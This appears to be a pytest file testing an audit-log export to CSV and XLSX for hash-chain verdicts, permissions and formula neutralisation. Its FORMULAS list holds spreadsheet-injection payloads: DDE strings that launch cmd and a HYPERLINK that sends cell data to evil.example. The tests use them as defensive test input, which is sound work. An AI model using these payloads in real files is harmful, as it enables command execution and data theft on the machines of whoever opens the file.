"""The audit log exported for auditors (`dealer-app audit export FILE.csv|.xlsx`): every entry with
its hashes and a per-row chain verdict; formula-like text neutralised; admins and HQ finance only;
the export itself recorded."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dealer_app.domain.errors import InvalidInput, PermissionDenied
from dealer_app.domain.models import Store, StoreStatus, StoreType
from dealer_app.services.audit_export import HEADERS, export_audit
from dealer_app.services.stores import save_store
from dealer_app.storage import audit as audit_store

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _read_xlsx(path: Path) -> tuple[list[dict], list]:
    wb = load_workbook(path)  # not read-only: cell data types are needed
    ws = wb.worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    rows = list(ws.iter_rows(values_only=True))
    headers = [str(h) for h in rows[0]]
    return [dict(zip(headers, r, strict=True)) for r in rows[1:]], cells


@pytest.fixture
def hostile_log(admin, make_user):
    """A log whose entries carry formula-like text in every field a user can fill."""
    hq = make_user("hq.auditor", "hq_finance")
    for i, text in enumerate(FORMULAS):
        save_store(
            hq,
            Store(
                f"F{i}",
                text.strip() or "x",
                text.strip() or "x",
                "CENTRAL",
                text,
                text.strip() or "x",
                StoreType.CAR_INTEGRATION_STORE,
                dt.date(2024, 1, 1),
                StoreStatus.OPEN,
                address=text,
            ),
            new=True,
        )
    make_user("-cmd", "hq_finance")  # a user name the name rules allow that starts like a formula
    make_user("@cmd", "hq_finance")
    return hq


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_has_every_entry_with_hashes_and_a_chain_verdict(admin, tmp_path, suffix):
    n_before = audit_store.verify(admin.ledger)[0]
    out = tmp_path / f"audit{suffix}"
    assert export_audit(admin, out) == n_before
    rows = _read_csv(out) if suffix == ".csv" else _read_xlsx(out)[0]
    assert list(rows[0].keys()) == list(HEADERS)
    stored = list(audit_store.iter_raw(admin.ledger))
    assert len(rows) == n_before == len(stored) - 1  # the export's own entry comes after it
    for row, raw in zip(rows, stored, strict=False):
        assert int(row["id"]) == raw["id"]
        assert row["hash"] == raw["hash"] and row["prev_hash"] == raw["prev_hash"]
        assert json.loads(row["data"]) == json.loads(raw["data"])
        assert row["check"] == "ok"
    last = stored[-1]
    assert last["action"] == "audit.export" and last["user"] == "admin"
    assert json.loads(last["data"]) == {"entries": n_before, "format": suffix[1:], "to": str(out)}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_neutralises_formulas_in_every_cell(admin, hostile_log, tmp_path, suffix, figures):
    out = tmp_path / f"audit{suffix}"
    export_audit(admin, out)
    if suffix == ".csv":
        rows = _read_csv(out)
        values = [v for r in rows for v in r.values()]
    else:
        rows, cells = _read_xlsx(out)
        assert all(c.data_type != "f" for c in cells)  # no formula cell at all
        values = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in values if isinstance(v, str) and v.startswith(DANGEROUS_START)]
    entity_ids = {r["entity_id"] for r in rows}
    assert {"'-cmd", "'@cmd"} <= entity_ids  # user names, as the entity of user.add
    stores = [json.loads(r["data"]) for r in rows if r["action"] == "store.add"]
    assert [s["after"]["name"] for s in stores] == [t.strip() for t in FORMULAS]  # data intact
    figures["hostile_inputs"] += len(FORMULAS) + 2


def test_export_of_a_user_named_like_a_formula(admin, make_user, tmp_path):
    """The user-name rules allow '@' and '-' first: the name is prefixed in every cell."""
    from dealer_app.services.users import reset_password

    mgr = make_user("@mgr", "hq_finance")
    reset_password(mgr, "@mgr", "another-pass-1")  # an entry whose acting user is '@mgr'
    out = tmp_path / "audit.csv"
    export_audit(mgr, out)
    rows = _read_csv(out)
    assert rows[-1]["user"] == "'@mgr" and rows[-1]["entity_id"] == "'@mgr"
    assert rows[-1]["action"] == "user.reset_password"
    assert "another-pass-1" not in out.read_text(encoding="utf-8-sig")


def test_regional_managers_may_not_export_the_whole_log(make_user, tmp_path):
    mgr = make_user("mgr.c", "regional_manager", "CENTRAL")
    out = tmp_path / "audit.csv"
    with pytest.raises(PermissionDenied, match="may not export the audit log"):
        export_audit(mgr, out)
    assert not out.exists()


def test_hq_finance_may_export(make_user, tmp_path):
    hq = make_user("hq.x", "hq_finance")
    assert export_audit(hq, tmp_path / "a.xlsx") > 0


@pytest.mark.parametrize("name", ["audit.txt", "audit.xls", "audit", "audit.csv.exe"])
def test_other_formats_are_refused(admin, tmp_path, name):
    with pytest.raises(InvalidInput, match=r"\.csv or \.xlsx"):
        export_audit(admin, tmp_path / name)
    assert not (tmp_path / name).exists()


def test_an_unwritable_place_gives_a_clear_message(admin, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    with pytest.raises(InvalidInput, match="Cannot write"):
        export_audit(admin, blocker / "audit.csv")


def test_a_tampered_row_that_is_not_json_is_still_exported_and_flagged(admin, tmp_path):
    admin.ledger.execute("DROP TRIGGER audit_log_no_update")
    admin.ledger.execute("UPDATE audit_log SET data = '=1+1 not json' WHERE id = 1")
    out = tmp_path / "audit.csv"
    export_audit(admin, out)
    first = _read_csv(out)[0]
    assert first["data"] == "'=1+1 not json"
    assert first["check"] == "altered after it was written"
